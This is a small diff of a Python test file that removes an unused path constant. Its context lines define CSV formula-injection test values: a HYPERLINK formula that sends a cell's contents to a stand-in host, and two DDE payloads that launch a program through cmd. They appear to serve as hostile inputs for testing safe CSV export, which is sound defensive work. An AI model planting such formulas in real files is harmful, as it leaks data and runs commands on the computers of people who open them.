@@ -25,7 +25,6 @@ from ektp_desk.core.letters import batch
 from tests import cli_helpers
 from tests.kpu_files import person, write_kpu_csv
 
-ROOT = Path(__file__).resolve().parents[2]
 HOSTILE_NAME = "=HYPERLINK(\"http://x.test/?\"&A1,\"klik\")"
 HOSTILE_CMD = "+cmd|' /C calc'!A0"
 HOSTILE_ADDRESS = "-2+3+cmd|' /C calc'!A0"
